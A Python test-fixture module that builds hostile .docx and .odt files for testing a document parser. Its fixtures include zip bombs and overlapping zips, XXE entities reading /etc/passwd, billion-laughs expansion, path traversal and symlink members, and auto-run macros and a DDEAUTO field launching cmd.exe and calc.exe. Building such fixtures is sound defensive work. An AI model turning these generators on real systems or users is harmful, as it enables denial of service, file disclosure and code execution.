"""The Word and LibreOffice files of ``tests/actas_hostile.py``, and the zips that they are made of.

Large parts are made without packing them whole: a piece is packed once, so that it can be repeated as it is.
"""

from __future__ import annotations

import bz2
import io
import struct
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass, replace
from functools import lru_cache

#: Where nobody answers: an address kept for documentation.
ELSEWHERE = "http://192.0.2.1/"
LOCAL_FILE = "file:///etc/passwd"
MEGABYTE = 1024 * 1024
HUGE = 1024 * MEGABYTE

ACTA = (
    "ACTA Nº 14/2026",
    "A los doce días del mes de marzo de 2026, siendo la hora 19:05, se reúne el Concejo Municipal.",
    "Se aprueba por unanimidad la poda de la plaza Lavalleja (5 en 5).",
    "Siendo la hora 21:40 se levanta la sesión.",
)
FOUND = "poda de la plaza Lavalleja"
#: What stands where no reader of the page sees it.
HIDDEN = "texto que nadie ve"

_DATE = (2026 - 1980) << 9 | 3 << 5 | 12
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_DOCUMENT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
_ODF = "urn:oasis:names:tc:opendocument:xmlns:"
_ODT = "application/vnd.oasis.opendocument.text"
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

DOCX_TEXT, ODT_TEXT = "word/document.xml", "content.xml"


# --- zips -------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Member:
    """One member of a zip as it will be written: nothing is checked, so that it can lie."""

    name: str
    packed: bytes
    crc: int
    size: int
    method: int = 8
    flags: int = 0
    attributes: int = 0


def stored(name: str, content: bytes) -> Member:
    return Member(name, content, zlib.crc32(content), len(content), method=0)


def member(name: str, content: bytes | str) -> Member:
    content = content.encode() if isinstance(content, str) else content
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Member(name, packer.compress(content) + packer.flush(), zlib.crc32(content), len(content))


def deflated(head: bytes, piece: bytes, times: int, tail: bytes) -> bytes:
    """The head, the piece so many times, and the tail, packed; only one piece is really packed."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    middle = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    return first + middle * times + packer.compress(tail) + packer.flush()


def large(name: str, head: bytes, piece: bytes, tail: bytes, size: int = HUGE) -> Member:
    """A member that unpacks to about ``size`` bytes."""
    piece = piece * (MEGABYTE // len(piece))
    times = size // len(piece) + 1
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(piece, crc)
    packed = deflated(head, piece, times, tail)
    return Member(name, packed, zlib.crc32(tail, crc), len(head) + len(piece) * times + len(tail))


def _local(one: Member) -> bytes:
    name = one.name.encode()
    rest = (one.flags | 0x800, one.method, 0, _DATE, one.crc, len(one.packed), one.size, len(name), 0)
    return struct.pack("<4s5H3L2H", b"PK\3\4", 20, *rest) + name


def _central(one: Member, place: int) -> bytes:
    name = one.name.encode()
    told = (one.flags | 0x800, one.method, 0, _DATE, one.crc, len(one.packed), one.size, len(name))
    return struct.pack("<4s6H3L5H2L", b"PK\1\2", 0x0314, 20, *told, 0, 0, 0, 0, one.attributes, place) + name


def _closed(body: bytes, places: list[tuple[Member, int]], start: int = 0) -> bytes:
    directory = b"".join(_central(one, place) for one, place in places)
    count = len(places)
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(directory), start + len(body), 0)
    return body + directory + end


def zipped(members: Iterable[Member], start: int = 0) -> bytes:
    """A zip of the members, to stand ``start`` bytes after the beginning of its file."""
    body, places = io.BytesIO(), []
    for one in members:
        places.append((one, start + body.tell()))
        body.write(_local(one) + one.packed)
    return _closed(body.getvalue(), places, start)


def _overlapping(members: list[Member], names: list[str], kernel: Member) -> bytes:
    """Each of the names unpacks to the kernel, which is there once; each quotes the header of the next.

    As David Fifield made them: every header, sum and size is right, and nothing is declared twice.
    """
    content = zlib.decompress(kernel.packed, -15)
    last = replace(kernel, name=names[-1])
    chain, quoted = [last], [_local(last)]
    data, unpacked = last.packed, content
    for name in reversed(names[:-1]):
        header = quoted[-1]
        data = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF) + header + data
        unpacked = header + unpacked
        one = Member(name, data, zlib.crc32(unpacked), len(unpacked))
        chain.append(one)
        quoted.append(_local(one))
    body, places = io.BytesIO(), []
    for one in members:
        places.append((one, body.tell()))
        body.write(_local(one) + one.packed)
    start = body.tell()
    whole = quoted[-1] + data
    for one, header in zip(chain, quoted, strict=True):
        places.append((one, start + len(whole) - len(one.packed) - len(header)))
    body.write(whole)
    return _closed(body.getvalue(), places)


# --- good files -------------------------------------------------------------------------------------------


def paragraph(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def _document(body: str | None = None, *, doctype: str = "", namespace: str = _W) -> str:
    inside = "".join(map(paragraph, ACTA)) if body is None else body
    spaces = (
        f'xmlns:w="{namespace}" xmlns:r="{_OFFICE}" xmlns:o="urn:schemas-microsoft-com:office:office"'
        ' xmlns:xi="http://www.w3.org/2001/XInclude"'
    )
    return f"{_XML}{doctype}<w:document {spaces}><w:body>{inside}</w:body></w:document>"


def _relations(*rows: tuple[str, str, bool]) -> str:
    """Kind, target and whether it is outside."""
    inside = ""
    for place, (kind, target, outside) in enumerate(rows, start=1):
        of = kind if ":" in kind else f"{_OFFICE}/{kind}"
        mode = ' TargetMode="External"' if outside else ""
        inside += f'<Relationship Id="r{place}" Type="{of}" Target="{target}"{mode}/>'
    return f'{_XML}<Relationships xmlns="{_PACKAGE}/relationships">{inside}</Relationships>'


def _types(main: str = f"{_DOCUMENT}.main+xml", more: str = "", doctype: str = "") -> str:
    return (
        f'{_XML}{doctype}<Types xmlns="{_PACKAGE}/content-types">'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>{more}'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    )


def _styles(doctype: str = "", name: str = "Normal") -> str:
    style = f'<w:style w:type="paragraph" w:styleId="Normal"><w:name w:val="Normal"/><w:aliases>{name}</w:aliases>'
    return f'{_XML}{doctype}<w:styles xmlns:w="{_W}">{style}</w:style></w:styles>'


def docx_members(*changed: Member) -> list[Member]:
    """Those of a good document, in their order, some changed or added."""
    parts = [
        member("[Content_Types].xml", _types()),
        member("_rels/.rels", _relations(("officeDocument", DOCX_TEXT, False))),
        member(DOCX_TEXT, _document()),
        member("word/_rels/document.xml.rels", _relations(("styles", "styles.xml", False))),
        member("word/styles.xml", _styles()),
    ]
    new = {one.name: one for one in changed}
    return [new.pop(one.name, one) for one in parts] + list(new.values())


def docx(*changed: Member) -> bytes:
    return zipped(docx_members(*changed))


def docx_body(body: str, *, doctype: str = "") -> bytes:
    return docx(member(DOCX_TEXT, _document(body, doctype=doctype)))


_ODF_SPACES = " ".join(
    f'xmlns:{name}="{_ODF}{name}:1.0"' for name in ("office", "text", "table", "meta", "manifest", "script")
) + (
    ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dc="http://purl.org/dc/elements/1.1/"'
    f' xmlns:draw="{_ODF}drawing:1.0"'
)


def _odf(root: str, inside: str, doctype: str = "") -> str:
    return f'{_XML}{doctype}<office:{root} {_ODF_SPACES} office:version="1.3">{inside}</office:{root}>'


def _odt_content(body: str | None = None, *, before: str = "", doctype: str = "") -> str:
    inside = "".join(f"<text:p>{line}</text:p>" for line in ACTA) if body is None else body
    text = f"{before}<office:body><office:text>{inside}</office:text></office:body>"
    return _odf("document-content", text, doctype)


def _manifest(*rows: str, kind: str = _ODT) -> str:
    inside = f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>' + "".join(rows)
    return f"{_XML}<manifest:manifest {_ODF_SPACES}>{inside}</manifest:manifest>"


def odt_members(*changed: Member, kind: str = _ODT) -> list[Member]:
    parts = [
        stored("mimetype", kind.encode()),
        member(ODT_TEXT, _odt_content()),
        member("meta.xml", _odf("document-meta", "<office:meta><dc:title>Acta</dc:title></office:meta>")),
        member("META-INF/manifest.xml", _manifest(kind=kind)),
    ]
    new = {one.name: one for one in changed}
    return [new.pop(one.name, one) for one in parts] + list(new.values())


def odt(*changed: Member) -> bytes:
    return zipped(odt_members(*changed))


def odt_body(body: str, *, doctype: str = "") -> bytes:
    return odt(member(ODT_TEXT, _odt_content(body, doctype=doctype)))


# --- bombs ------------------------------------------------------------------------------------------------


@lru_cache(maxsize=1)
def _text_of_a_gigabyte() -> Member:
    head, tail = _document("@").split("@")
    return large(DOCX_TEXT, head.encode(), paragraph("Se aprueba.").encode(), tail.encode())


def docx_bomb() -> bytes:
    return docx(_text_of_a_gigabyte())


def docx_bomb_that_lies() -> bytes:
    """Both directories say 1,000 bytes."""
    return docx(replace(_text_of_a_gigabyte(), size=1000))


def docx_bomb_in_styles() -> bytes:
    head, tail = _styles(name="@").split("@")
    return docx(large("word/styles.xml", head.encode(), b"estilo ", tail.encode()))


def docx_bomb_in_picture() -> bytes:
    """A part that nobody needs for the text."""
    return docx(large("word/media/image1.bmp", b"BM", bytes(1024), b""))


def docx_bomb_in_bzip2() -> bytes:
    """The other way of packing that zips allow: less than 1 KB for 128 MB."""
    head, tail = (half.encode() for half in _document("@").split("@"))
    content = head + b" " * (128 * MEGABYTE) + tail
    crc = zlib.crc32(content)
    return docx(Member(DOCX_TEXT, bz2.compress(content), crc, len(content), method=12))


def docx_bomb_nested() -> bytes:
    """A document with an object that is a document with an object…, ten deep, the last one a bomb."""
    inner = docx_bomb()
    for _ in range(10):
        inner = docx(member("word/embeddings/objeto.docx", inner))
    return inner


def docx_overlapping() -> bytes:
    """Six hundred pictures that share their bytes: 1.2 GB when unpacked."""
    names = [f"word/media/image{place}.png" for place in range(600)]
    return _overlapping(docx_members(), names, member("", bytes(2 * MEGABYTE)))


def docx_many_members() -> bytes:
    return zipped(docx_members() + [stored(f"word/media/{place}", b"") for place in range(60_000)])


def odt_bomb() -> bytes:
    head, tail = _odt_content("@").split("@")
    return odt(large(ODT_TEXT, head.encode(), b"<text:p>Se aprueba.</text:p>", tail.encode()))


def odt_bomb_in_meta() -> bytes:
    head, tail = _odf("document-meta", "<office:meta><dc:title>@</dc:title></office:meta>").split("@")
    return odt(large("meta.xml", head.encode(), b"acta ", tail.encode()))


# --- entities ---------------------------------------------------------------------------------------------


def doctype_file(root: str) -> str:
    return f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{LOCAL_FILE}">]>\n'


def doctype_http(root: str) -> str:
    return f'<!DOCTYPE {root} [<!ENTITY x SYSTEM "{ELSEWHERE}x">]>\n'


def doctype_dtd(root: str) -> str:
    return f'<!DOCTYPE {root} SYSTEM "{ELSEWHERE}acta.dtd" [<!ENTITY x "y">]>\n'


def doctype_parameter(root: str) -> str:
    """The entity of the text is declared by what is fetched."""
    steps = f'<!ENTITY % out SYSTEM "{ELSEWHERE}x.dtd"> %out;<!ENTITY x "y">'
    return f"<!DOCTYPE {root} [{steps}]>\n"


def doctype_laughs(root: str) -> str:
    """Nine entities, each ten times the one before: a thousand million words."""
    steps = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE {root} [<!ENTITY a0 "poda ">{steps}<!ENTITY x "&a9;">]>\n'


QUADRATIC = 50_000


def doctype_quadratic(root: str) -> str:
    """One entity of 50,000 letters, used 50,000 times in the text: 2.5 GB, and no entity inside another."""
    return f'<!DOCTYPE {root} [<!ENTITY x "{"a" * QUADRATIC}">]>\n'


def docx_entity(doctype: Callable[[str], str], text: str = "Antes &x; después") -> bytes:
    return docx_body("".join(map(paragraph, ACTA)) + paragraph(text), doctype=doctype("w:document"))


def docx_quadratic() -> bytes:
    return docx_entity(doctype_quadratic, "&x;" * QUADRATIC)


def docx_entity_in_styles() -> bytes:
    return docx(member("word/styles.xml", _styles(doctype_file("w:styles"), "&x;")))


def docx_entity_in_types() -> bytes:
    return docx(
        member(
            "[Content_Types].xml",
            _types(more='<Default Extension="png" ContentType="&x;"/>', doctype=doctype_file("Types")),
        )
    )


def docx_entity_in_utf_16() -> bytes:
    """Who looks for «<!DOCTYPE» in the bytes does not see it."""
    text = _document("".join(map(paragraph, (*ACTA, "&x;"))), doctype=doctype_file("w:document"))
    return docx(member(DOCX_TEXT, text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")))


def docx_entity_in_utf_7() -> bytes:
    text = _document("".join(map(paragraph, (*ACTA, "&x;"))), doctype=doctype_file("w:document"))
    head = '<?xml version="1.0" encoding="UTF-7"?>'
    text = text.removeprefix(_XML).replace("<!", "+ADwAIQ-").replace("º", "o")
    return docx(member(DOCX_TEXT, head + text))


def docx_xinclude() -> bytes:
    include = f'<xi:include href="{LOCAL_FILE}" parse="text"/>'
    return docx_body("".join(map(paragraph, (*ACTA, include))))


def odt_entity(doctype: Callable[[str], str], text: str = "Antes &x; después") -> bytes:
    lines = "".join(f"<text:p>{line}</text:p>" for line in (*ACTA, text))
    return odt_body(lines, doctype=doctype("office:document-content"))


def odt_quadratic() -> bytes:
    return odt_entity(doctype_quadratic, "&x;" * QUADRATIC)


def odt_entity_in_meta() -> bytes:
    inside = "<office:meta><dc:title>&x;</dc:title></office:meta>"
    return odt(member("meta.xml", _odf("document-meta", inside, doctype_file("office:document-meta"))))


def odt_entity_in_manifest() -> bytes:
    text = _manifest('<manifest:file-entry manifest:full-path="a" manifest:media-type="&x;"/>')
    doctype = doctype_file("manifest:manifest")
    return odt(member("META-INF/manifest.xml", text.replace(_XML, _XML + doctype)))


# --- what they bring along --------------------------------------------------------------------------------


def docx_external_template() -> bytes:
    """Word would fetch the template on opening."""
    settings = (
        f'{_XML}<w:settings xmlns:w="{_W}" xmlns:r="{_OFFICE}"><w:attachedTemplate r:id="r1"/></w:settings>'
    )
    return docx(
        member("word/settings.xml", settings),
        member(
            "word/_rels/settings.xml.rels",
            _relations(("attachedTemplate", f"{ELSEWHERE}plantilla.dotm", True)),
        ),
        member(
            "word/_rels/document.xml.rels",
            _relations(("styles", "styles.xml", False), ("settings", "settings.xml", False)),
        ),
    )


def docx_external_image() -> bytes:
    relations = _relations(("styles", "styles.xml", False), ("image", f"{ELSEWHERE}visto.png", True))
    picture = '<w:p><w:r><w:pict><o:image r:link="r2"/></w:pict></w:r></w:p>'
    return docx(
        member(DOCX_TEXT, _document("".join(map(paragraph, ACTA)) + picture)),
        member("word/_rels/document.xml.rels", relations),
    )


def docx_external_document() -> bytes:
    """The text itself is elsewhere."""
    return docx(member("_rels/.rels", _relations(("officeDocument", f"{ELSEWHERE}document.xml", True))))


def docx_alt_chunk() -> bytes:
    """A piece of HTML that Word takes into the text, with a picture from elsewhere."""
    relations = _relations(("styles", "styles.xml", False), ("aFChunk", "trozo.html", False))
    chunk = f'<html><script>alert(1)</script><img src="{ELSEWHERE}visto.png"><p>{HIDDEN}</p></html>'
    return docx(
        member("[Content_Types].xml", _types(more='<Default Extension="html" ContentType="text/html"/>')),
        member(DOCX_TEXT, _document("".join(map(paragraph, ACTA)) + '<w:altChunk r:id="r2"/>')),
        member("word/_rels/document.xml.rels", relations),
        member("word/trozo.html", chunk),
    )


def ole(*names: str) -> bytes:
    """The outside of an OLE container with these streams."""
    head = _OLE + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00\x06\x00"
    directory = "".join(name.ljust(32, "\0") for name in ("Root Entry", *names))
    return head.ljust(512, b"\0") + directory.encode("utf-16-le").ljust(1024, b"\0") + bytes(4096)


def docx_ole_object() -> bytes:
    relations = _relations(("styles", "styles.xml", False), ("oleObject", "embeddings/oleObject1.bin", False))
    thing = (
        '<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="r2"/></w:object></w:r></w:p>'
    )
    content = ole("\1Ole10Native") + b"C:\\Windows\\calc.exe\0" + HIDDEN.encode()
    return docx(
        member(DOCX_TEXT, _document("".join(map(paragraph, ACTA)) + thing)),
        member("word/_rels/document.xml.rels", relations),
        member("word/embeddings/oleObject1.bin", content),
    )


_VBA = 'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nShell "calc.exe"\r\nEnd Sub\r\n'


def _macros(main: str) -> bytes:
    relations = _relations(
        ("styles", "styles.xml", False),
        ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False),
    )
    kind = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    return docx(
        member("[Content_Types].xml", _types(main, kind)),
        member("word/_rels/document.xml.rels", relations),
        member("word/vbaProject.bin", ole("VBA", "PROJECT") + _VBA.encode()),
    )


def docm_renamed() -> bytes:
    return _macros("application/vnd.ms-word.document.macroEnabled.main+xml")


def docx_with_macro_part() -> bytes:
    """It says of itself that it has none."""
    return _macros(f"{_DOCUMENT}.main+xml")


def dotm_without_project() -> bytes:
    """A template that may have macros, and has none: it is no acta either."""
    kind = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
    return docx(member("[Content_Types].xml", _types(kind)))


def docx_dde() -> bytes:
    """A field that starts a program where somebody says yes; what the page shows is its result."""
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText>'
        '</w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Total: 5 votos</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return docx_body("".join(map(paragraph, ACTA)) + field)


def docx_hidden_and_deleted() -> bytes:
    """What was deleted with changes tracked, and hidden letters: the page does not show either."""
    deleted = f'<w:p><w:del w:author="x"><w:r><w:delText>{HIDDEN}: borrado</w:delText></w:r></w:del>'
    deleted += '<w:ins w:author="x"><w:r><w:t>Texto agregado.</w:t></w:r></w:ins></w:p>'
    hidden = f"<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>{HIDDEN}: oculto</w:t></w:r></w:p>"
    return docx_body("".join(map(paragraph, ACTA)) + deleted + hidden)


def odt_macros() -> bytes:
    """A Basic library, and an event that starts it."""
    event = '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script"'
    event += ' script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic"/>'
    event += "</office:event-listeners></office:scripts>"
    return odt(
        member(ODT_TEXT, _odt_content(before=event)),
        member("Basic/Standard/M.xml", '<script:module>Sub Main\nShell("calc")\nEnd Sub</script:module>'),
        member("Basic/script-lc.xml", "<library:libraries/>"),
    )


def odt_external() -> bytes:
    """A picture and a section that come from elsewhere."""
    more = f'<text:p><draw:frame><draw:image xlink:href="{ELSEWHERE}visto.png"/></draw:frame></text:p>'
    more += f'<text:section text:name="s"><text:section-source xlink:href="{LOCAL_FILE}"/></text:section>'
    return odt_body("".join(f"<text:p>{line}</text:p>" for line in ACTA) + more)


def odt_deleted() -> bytes:
    """LibreOffice keeps what was deleted at the beginning of the text."""
    change = f"<text:deletion><text:p>{HIDDEN}</text:p></text:deletion>"
    region = f'<text:changed-region text:id="c1">{change}</text:changed-region>'
    kept = f"<text:tracked-changes>{region}</text:tracked-changes>"
    return odt_body(kept + "".join(f"<text:p>{line}</text:p>" for line in ACTA))


# --- names and members ------------------------------------------------------------------------------------

PATHS = (
    "../../../../var/acta-hostil.txt",
    "/var/acta-hostil.txt",
    "..\\..\\acta-hostil.txt",
    "C:\\acta-hostil.txt",
)


def docx_paths() -> bytes:
    return docx(*(member(name, "fuera de su carpeta") for name in PATHS))


def docx_duplicate() -> bytes:
    """Two texts under one name: one program shows the first, another the last."""
    other = member(DOCX_TEXT, _document("".join(map(paragraph, (*ACTA[:2], HIDDEN)))))
    return zipped([*docx_members(), other])


def docx_duplicate_in_capitals() -> bytes:
    other = member("WORD/Document.xml", _document(paragraph(HIDDEN)))
    return zipped([other, *docx_members()])


def docx_symlink() -> bytes:
    """The text is a link to a file of the machine that unpacks it."""
    return docx(replace(stored(DOCX_TEXT, b"/etc/passwd"), attributes=0o120777 << 16))


def odt_duplicate() -> bytes:
    other = member(ODT_TEXT, _odt_content(f"<text:p>{HIDDEN}</text:p>"))
    return zipped([*odt_members(), other])


def odt_symlink() -> bytes:
    return odt(replace(stored(ODT_TEXT, b"/etc/passwd"), attributes=0o120777 << 16))


def docx_header_differs() -> bytes:
    """The directory gives one name and the member's own header another."""
    raw = docx()
    place = raw.index(DOCX_TEXT.encode())
    return raw[:place] + b"word/document.xmx" + raw[place + len(DOCX_TEXT) :]


def docx_other_main_part() -> bytes:
    """Legal: the text is where the relationships say."""
    raw = [one for one in docx_members() if one.name != DOCX_TEXT]
    text = member("word/otro.xml", _document())
    relations = member("_rels/.rels", _relations(("officeDocument", "/word/otro.xml", False)))
    kinds = member("[Content_Types].xml", _types().replace("/word/document.xml", "/word/otro.xml"))
    return zipped(
        [kinds, relations, text, *[one for one in raw if one.name not in (kinds.name, relations.name)]]
    )


def docx_strict() -> bytes:
    """As Word saves it under «Documento Open XML estricto»: other names of everything."""
    strict = "http://purl.oclc.org/ooxml/officeDocument/relationships"
    relations = _relations(("officeDocument", DOCX_TEXT, False)).replace(_OFFICE, strict)
    text = _document(namespace="http://purl.oclc.org/ooxml/wordprocessingml/main").replace(_OFFICE, strict)
    return docx(member("_rels/.rels", relations), member(DOCX_TEXT, text))


# --- shapes -----------------------------------------------------------------------------------------------

DEEP = 2000
WIDE = 1_000_000


def docx_deep_tables() -> bytes:
    """A table in a cell of a table in a cell…"""
    before, after = "<w:tbl><w:tr><w:tc>" * DEEP, "<w:p/></w:tc></w:tr></w:tbl>" * DEEP
    return docx_body("".join(map(paragraph, ACTA)) + before + paragraph("en el fondo") + after)


def docx_deep_runs() -> bytes:
    inside = "<w:smartTag>" * 50_000 + "<w:r><w:t>en el fondo</w:t></w:r>" + "</w:smartTag>" * 50_000
    return docx_body("".join(map(paragraph, ACTA)) + f"<w:p>{inside}</w:p>")


def docx_wide_table() -> bytes:
    """A row of a million cells."""
    row = f"<w:tbl><w:tr>{'<w:tc><w:p/></w:tc>' * WIDE}</w:tr></w:tbl>"
    return docx_body("".join(map(paragraph, ACTA)) + row)


def docx_span_that_lies() -> bytes:
    """One cell that says it is a thousand million columns wide."""
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>{paragraph("ancha")}</w:tc>'
    return docx_body("".join(map(paragraph, ACTA)) + f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>")


def docx_long_paragraph() -> bytes:
    return docx_body("".join(map(paragraph, ACTA)) + paragraph("Se toma nota. " * (10 * MEGABYTE // 14 + 1)))


def docx_many_runs() -> bytes:
    """A letter a run, as some programs write: two hundred thousand."""
    return docx_body("".join(map(paragraph, ACTA)) + f"<w:p>{'<w:r><w:t>a</w:t></w:r>' * 200_000}</w:p>")


REPEATED = 1_000_000_000


def odt_repeated_columns() -> bytes:
    cell = (
        f'<table:table-cell table:number-columns-repeated="{REPEATED}"><text:p>sí</text:p></table:table-cell>'
    )
    table = f"<table:table><table:table-row>{cell}</table:table-row></table:table>"
    return odt_body("".join(f"<text:p>{line}</text:p>" for line in ACTA) + table)


def odt_repeated_rows() -> bytes:
    cell = "<table:table-cell><text:p>sí</text:p></table:table-cell>"
    row = f'<table:table-row table:number-rows-repeated="{REPEATED}">{cell}</table:table-row>'
    return odt_body(
        "".join(f"<text:p>{line}</text:p>" for line in ACTA) + f"<table:table>{row}</table:table>"
    )


def odt_spaces() -> bytes:
    more = f'<text:p>Antes<text:s text:c="{REPEATED}"/>después</text:p>'
    return odt_body("".join(f"<text:p>{line}</text:p>" for line in ACTA) + more)


def odt_spaces_that_lie() -> bytes:
    """Numbers that are none."""
    counts = ("-5", "muchos", "1e9", "", "9" * 5000)
    more = "".join(f'<text:p>Antes<text:s text:c="{count}"/>después</text:p>' for count in counts)
    return odt_body("".join(f"<text:p>{line}</text:p>" for line in ACTA) + more)


def odt_deep_sections() -> bytes:
    before, after = "<text:section>" * DEEP, "</text:section>" * DEEP
    lines = "".join(f"<text:p>{line}</text:p>" for line in ACTA)
    return odt_body(f"{lines}{before}<text:p>en el fondo</text:p>{after}")


# --- broken, encrypted, empty -----------------------------------------------------------------------------


def cut(raw: bytes) -> bytes:
    return raw[: len(raw) // 2]


def docx_wrong_sum() -> bytes:
    """The text unpacks well and is not what was packed."""
    good = member(DOCX_TEXT, _document())
    return docx(replace(good, crc=good.crc ^ 1))


def docx_bad_xml() -> bytes:
    """The text ends in the middle of a tag."""
    return docx(member(DOCX_TEXT, _document()[:-40]))


def docx_without_text_part() -> bytes:
    return zipped(one for one in docx_members() if one.name != DOCX_TEXT)


def docx_of_nothing() -> bytes:
    return docx_body("<w:p/>")


def docx_scan() -> bytes:
    """A picture on the page, and no letter."""
    return docx(
        member(DOCX_TEXT, _document('<w:p><w:r><w:pict><o:image r:id="r2"/></w:pict></w:r></w:p>')),
        member("word/media/image1.png", b"\x89PNG\r\n\x1a\n" + bytes(2000)),
    )


def docx_encrypted() -> bytes:
    """As Word saves it under a password."""
    return ole("EncryptionInfo", "EncryptedPackage", "\6DataSpaces")


def docx_zip_encrypted() -> bytes:
    """The zip's own encryption: the members say so."""
    return zipped(replace(one, flags=1, packed=b"\x5a" * 12 + one.packed) for one in docx_members())


def odt_encrypted() -> bytes:
    """As LibreOffice saves it under a password."""
    how = (
        '<manifest:encryption-data manifest:checksum="AAAA"><manifest:algorithm manifest:algorithm-name='
        '"http://www.w3.org/2001/04/xmlenc#aes256-cbc" manifest:initialisation-vector="AAAA"/>'
        "</manifest:encryption-data>"
    )
    row = '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"'
    row += f' manifest:size="1200">{how}</manifest:file-entry>'
    noise = b"".join(struct.pack(">L", zlib.crc32(bytes([n]))) for n in range(256))
    return odt(stored(ODT_TEXT, noise), member("META-INF/manifest.xml", _manifest(row)))


def odt_of_nothing() -> bytes:
    return odt_body("<text:p/>")


def odt_flat() -> bytes:
    """One XML without a zip, as LibreOffice writes .fodt."""
    lines = "".join(f"<text:p>{line}</text:p>" for line in ACTA)
    body = f"<office:body><office:text>{lines}</office:text></office:body>"
    return (
        _odf("document", body).replace("office:version", f'office:mimetype="{_ODT}" office:version').encode()
    )


def spreadsheet_renamed() -> bytes:
    return zipped(odt_members(kind="application/vnd.oasis.opendocument.spreadsheet"))


def other_zip() -> bytes:
    return zipped([member("fotos/uno.txt", "no es un acta")])


def zip_of_nothing() -> bytes:
    return zipped([])
